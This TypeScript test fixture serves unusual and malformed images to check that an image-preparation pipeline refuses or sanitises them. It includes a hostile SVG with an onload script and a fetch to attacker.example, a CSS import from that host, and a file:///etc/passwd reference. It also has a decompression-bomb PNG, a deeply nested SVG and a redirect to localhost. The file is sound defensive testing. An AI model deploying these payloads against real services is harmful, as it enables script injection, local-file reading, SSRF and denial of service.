import { readFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import type { PictureRefusal } from "#app/core/pictures/picture-refusals.ts";
import { drawItem } from "./art.ts";

/** A picture's address as marketplaces give them, and what preparing it comes to. */
export interface OddPicture {
	slug: string;
	url: string;
	expected: "ready" | PictureRefusal;
}

/** A file that local/pictures/draw-odd-pictures.ts drew. */
const drawn = (name: string): Buffer => readFileSync(join(import.meta.dirname, "pictures", name));

const XMLNS = `xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"`;
const knot = drawItem("knots", "9010");
const inside = knot.replace(/^<svg[^>]*>/, "").replace("</svg>", "");
/** Wider than any screen, and a picture from elsewhere, a script, a film and HTML that are to do nothing. */
const HOSTILE_SVG = `<?xml version="1.0"?><svg ${XMLNS} width="100000" height="100000" viewBox="0 0 400 400" onload="alert(1)"><script>fetch("https://attacker.example")</script><image href="http://127.0.0.1:9/outside.png" width="400" height="400"/><image xlink:href="file:///etc/passwd" width="9" height="9"/><style>@import url("https://attacker.example/x.css");</style>${inside}<foreignObject width="400" height="400"><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(2)</script></body></foreignObject></svg>`;
const WORDS_SVG = `<svg ${XMLNS} viewBox="0 0 350 350"><path d="M0 0h350v350H0z"/><text x="20" y="60" fill="#fff" font-family="serif" font-size="40">Sword of Knots</text><text x="20" y="110" fill="#fff" font-size="40">سيف</text></svg>`;
const DEEP = 60_000;

/** Pixels of an edge: 400 million of one bit each, in some 50 kB. */
const HUGE_EDGE = 20_000;
/** Larger than any cap on bytes. */
const HEAVY_BYTES = 20 * 1024 * 1024;

/** A PNG of black pixels, one bit each; its checksums are left out, which no size can wait for. */
function hugePng(): Buffer {
	const chunk = (type: string, data: Buffer) => {
		const length = Buffer.alloc(4);
		length.writeUInt32BE(data.length);
		return Buffer.concat([length, Buffer.from(type, "latin1"), data, Buffer.alloc(4)]);
	};
	const header = Buffer.alloc(13);
	header.writeUInt32BE(HUGE_EDGE, 0);
	header.writeUInt32BE(HUGE_EDGE, 4);
	header[8] = 1;
	const rows = deflateSync(Buffer.alloc(HUGE_EDGE * (1 + HUGE_EDGE / 8)));
	return Buffer.concat([
		Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
		chunk("IHDR", header),
		chunk("IDAT", rows),
		chunk("IEND", Buffer.alloc(0)),
	]);
}

interface Served {
	type: string;
	body(): string | Buffer;
	expected: OddPicture["expected"];
}
const file = (name: string, type: string, expected: OddPicture["expected"] = "ready"): Served => ({
	type,
	body: () => drawn(name),
	expected,
});
const svg = (body: string, expected: OddPicture["expected"] = "ready"): Served => ({
	type: "image/svg+xml",
	body: () => body,
	expected,
});

/** Below /odd/, by slug. */
const SERVED: Record<string, Served> = {
	png: file("knot.png", "image/png"),
	"png-16-bit": file("knot-16-bit.png", "image/png"),
	"png-interlaced": file("orbit-interlaced.png", "image/png"),
	"png-animated": file("orbits-animated.png", "image/png"),
	"png-transparent": file("transparent.png", "image/png"),
	wide: file("stripes.png", "image/png"),
	jpeg: file("sitter.jpg", "image/jpeg"),
	"jpeg-turned": file("turned.jpg", "image/jpeg"),
	webp: file("weather.webp", "image/webp"),
	"webp-animated": file("orbits.webp", "image/webp"),
	gif: file("orbits.gif", "image/gif"),
	avif: file("sitter.avif", "image/avif"),
	"called-otherwise": file("knot.png", "text/plain"),
	svg: svg(knot),
	"svg-words": svg(WORDS_SVG),
	"svg-hostile": svg(HOSTILE_SVG),
	"svg-without-size": svg(`<svg ${XMLNS}>${inside}</svg>`),
	"svg-with-bitmap": svg(
		`<svg ${XMLNS} viewBox="0 0 900 300"><image width="900" height="300" href="data:image/png;base64,${drawn("stripes.png").toString("base64")}"/></svg>`,
	),
	html: {
		type: "text/html; charset=utf-8",
		body: () => "<!doctype html><title>Not here</title><p>This gallery moved.",
		expected: "not-a-picture",
	},
	json: { type: "application/json", body: () => `{"name":"Knot","image":"ipfs://x"}`, expected: "not-a-picture" },
	empty: { type: "image/png", body: () => "", expected: "not-a-picture" },
	film: {
		type: "video/mp4",
		body: () => Buffer.from("\0\0\0\x20ftypisom\0\0\x02\0isomiso2avc1mp41\0\0\0\x08free", "latin1"),
		expected: "not-a-picture",
	},
	heic: {
		type: "image/heic",
		body: () => Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic\0\0\0\x08free", "latin1"),
		expected: "format",
	},
	heavy: {
		type: "image/png",
		body: () => Buffer.concat([drawn("knot.png"), Buffer.alloc(HEAVY_BYTES)]),
		expected: "too-large",
	},
	huge: { type: "image/png", body: hugePng, expected: "too-many-pixels" },
	"svg-with-huge-bitmap": {
		type: "image/svg+xml",
		body: () =>
			`<svg ${XMLNS} viewBox="0 0 9 9"><image width="9" height="9" href="data:image/png;base64,${hugePng().toString("base64")}"/></svg>`,
		expected: "too-many-pixels",
	},
	"svg-deep": svg(`<svg ${XMLNS}>${"<g>".repeat(DEEP)}${"</g>".repeat(DEEP)}</svg>`, "broken"),
	"svg-broken": svg(`<svg ${XMLNS} viewBox="0 0 9 9"><path d="M0 0h9`, "broken"),
	"png-truncated": {
		type: "image/png",
		body: () => drawn("knot.png").subarray(0, 9_000),
		expected: "broken",
	},
	"avif-truncated": { type: "image/avif", body: () => drawn("sitter.avif").subarray(0, 900), expected: "broken" },
};

/** Below /ipfs/ and /arweave/: what gateways give for content identifiers. */
const FOLDER_CID = "bafybeiknotsknotsknotsknotsknotsknotsknotsknotsknotsknotskno";
const FILE_CID = "QmOrbitsOrbitsOrbitsOrbitsOrbitsOrbitsOrbitsOr";
const TRANSACTION = "sitters-sitters-sitters-sitters-sitters-sit";
const GATEWAYS: Record<string, Served | undefined> = {
	[`/ipfs/${FOLDER_CID}/knots/9001.png`]: SERVED.png,
	[`/ipfs/${FILE_CID}`]: SERVED.gif,
	[`/arweave/${TRANSACTION}`]: SERVED.jpeg,
};

/** A machine's own address, on a port nobody listens on. */
const PRIVATE = "http://127.0.0.1:9/private.png";

/** What the stand-in does with an address of a picture; null where there is none. */
export function oddPictureAt(
	path: string,
): { type: string; body: string | Buffer } | { to: string } | "silence" | null {
	if (path === "/odd/silent") return "silence";
	if (path === "/odd/private") return { to: PRIVATE };
	if (path === "/odd/led-on") return { to: "./jpeg" };
	const served = GATEWAYS[path] ?? SERVED[/^\/odd\/([\w-]+)$/.exec(path)?.[1] ?? ""];
	return served ? { type: served.type, body: served.body() } : null;
}

/** @param ownUrl - origin and prefix of the stand-in */
export function oddPictures(ownUrl: string): OddPicture[] {
	const served = Object.entries(SERVED).map(([slug, { expected }]) => ({
		slug,
		url: `${ownUrl}/odd/${slug}`,
		expected,
	}));
	return [
		...served,
		{ slug: "led-on", url: `${ownUrl}/odd/led-on`, expected: "ready" },
		{ slug: "ipfs", url: `ipfs://${FOLDER_CID}/knots/9001.png`, expected: "ready" },
		{ slug: "ipfs-twice", url: `ipfs://ipfs/${FILE_CID}`, expected: "ready" },
		{ slug: "arweave", url: `ar://${TRANSACTION}`, expected: "ready" },
		{ slug: "data-png", url: `data:image/png;base64,${drawn("stripes.png").toString("base64")}`, expected: "ready" },
		{ slug: "data-svg", url: `data:image/svg+xml;utf8,${encodeURIComponent(knot)}`, expected: "ready" },
		{ slug: "data-svg-bare", url: `data:image/svg+xml,${knot.replaceAll("#", "%23")}`, expected: "ready" },
		{ slug: "data-html", url: "data:text/html,<p>Not a picture</p>", expected: "not-a-picture" },
		{ slug: "silent", url: `${ownUrl}/odd/silent`, expected: "silent" },
		{ slug: "gone", url: `${ownUrl}/odd/gone`, expected: "not-there" },
		{ slug: "ipfs-gone", url: `ipfs://${FOLDER_CID}/knots/none.png`, expected: "not-there" },
		{ slug: "private", url: `${ownUrl}/odd/private`, expected: "address-refused" },
		{ slug: "plain-http", url: "http://pictures.gallery.com/1.png", expected: "address-refused" },
		{ slug: "scheme", url: "ftp://pictures.gallery.com/1.png", expected: "address-refused" },
	];
}
